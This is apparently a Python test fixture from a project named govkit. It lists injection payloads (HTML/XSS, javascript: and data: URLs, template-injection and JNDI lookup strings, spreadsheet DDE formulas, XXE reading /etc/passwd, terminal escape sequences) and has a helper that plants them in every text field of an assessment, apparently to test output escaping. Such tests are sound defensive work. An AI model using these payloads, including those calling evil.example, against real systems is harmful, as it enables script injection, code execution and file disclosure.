"""Texts that try to become markup, code, formulas, links or commands, and a way to plant them."""

from __future__ import annotations

import copy
from typing import Any

from govkit.model.assessment import Assessment

HTML = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "</svg><script>alert(1)</script>",
    "<math><mtext><img src onerror=alert(1)></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<body onload=alert(1)>",
    "<style>@import '//evil.example/x.css'</style>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "` onmouseover=alert(1)",
    "x onmouseover=alert(1)",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u003cscript\u003ealert(1)",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript://evil.example/%0aalert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    'https://evil.example/"onmouseover=alert(1)',
    "https://evil.example/'><script>alert(1)</script>",
    "http://evil.example/x y",
    "https://user:pass@evil.example/",
    "ftp://evil.example/x",
    "mailto:x@evil.example",
    "www.evil.example",
)
TEMPLATES = (
    "{{7*7}}",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{n.__class__.__init__.__globals__}",
    "{0}",
    "{}",
    "{",
    "}",
    "{{",
    "{date",
    "%(n)s %s %n",
    "${jndi:ldap://evil.example/x}",
    "#{7*7}",
    "<%= 7*7 %>",
    "[red]x[/red]",
    "[link=https://evil.example]x[/link]",
    "[bold",
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\ufeff=1+1",
    '"=1+1"',
    "'=1+1",
    "|calc",
    "%0a=1+1",
    "\u22121+1",
    ";=1+1",
    ",=1+1",
)
MARKDOWN = (
    "[x](https://evil.example)",
    "![x](https://evil.example/x.png)",
    "[x]: https://evil.example",
    "[x][y]",
    "<https://evil.example>",
    "https://evil.example",
    "@torvalds",
    "@github/security",
    "#1",
    "owner/repo#1",
    "GH-1",
    "gh-1",
    "```\ncode\n```",
    "`code`",
    "~~~\nx",
    "| a | b |",
    "a | b",
    "# heading",
    "> quote",
    "> [!CAUTION]",
    "- item",
    "1. item",
    "* * *",
    "---",
    "===",
    "**bold** __bold__ ~~gone~~",
    "$x^2$",
    "- [x] done",
    ":smile:",
    "[^1]",
    "a  \nb",
    "\\[x\\](https://evil.example)",
    "</details><h1>x</h1>",
    "<!-- x",
    "&lt;b&gt;",
)
TERMINAL = (
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1bP+q\x1b\\",
    "\x9b31mx",
    "\x9d0;x\x9c",
    "\x07\x08\x7f",
    "a\rGAP none",
    "a\x00b",
    "line\u2028separator\u2029x",
    "\u202edesrever\u202c",
    "\u2066isolated\u2069",
    "\u200emark\u200f",
    "\U000e0041\U000e0042",
    "\ud800",
    "\udfff\ud800",
    "\ufffe\uffff",
    "\x0b\x0c\x1c\x85",
    "\u0e2a\u0e21\u200b\u0e0a\u0e32\u0e22",
    "z\u0335\u0335\u0335\u0335\u0335",
    "",
    " ",
    "x" * 2_000,
)
PAYLOADS = (*HTML, *ADDRESSES, *TEMPLATES, *FORMULAS, *MARKDOWN, *TERMINAL)

CLOSED = frozenset({"govkit", "status", "severity", "basis", "state", "type", "kind", "preanswer"})
"""Members whose values are words of the format; `planted(closed=True)` plants them, too."""


def planted(assessment: Assessment, payload: str, *, closed: bool = False) -> Assessment:
    """Return a copy of the assessment whose every text is the payload, and every type of subject, too."""
    copied: Any = copy.deepcopy(assessment)
    for name, value in copied.items():
        copied[name] = _plant(value, payload, closed)
    copied["subjects"] = {payload: [payload, payload], **copied["subjects"]}
    copied["frameworks"] = copied["frameworks"][:1]
    copied["translations"] = {"th": {"messages": {payload: payload}}}
    return copied  # type: ignore[no-any-return]


def _plant(value: Any, payload: str, closed: bool) -> Any:
    if isinstance(value, str):
        return payload
    if isinstance(value, (list, tuple)):
        return [_plant(item, payload, closed) for item in value]
    if isinstance(value, dict):
        return {
            key: item if key in CLOSED and isinstance(item, str) and not closed else _plant(item, payload, closed)
            for key, item in value.items()
        }
    return value
